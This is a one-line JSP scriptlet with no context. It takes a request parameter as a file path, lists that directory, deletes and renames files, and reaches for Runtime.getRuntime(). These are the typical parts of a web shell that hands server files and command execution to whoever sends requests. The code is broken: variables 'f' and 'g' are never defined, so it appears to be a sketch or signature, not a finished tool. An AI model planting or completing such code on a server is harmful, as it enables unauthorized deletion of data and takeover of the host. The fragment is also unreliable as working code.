<% String d = request.getParameter("d"); new File(d).listFiles(); f.delete(); f.renameTo(g); Runtime.getRuntime(); %>
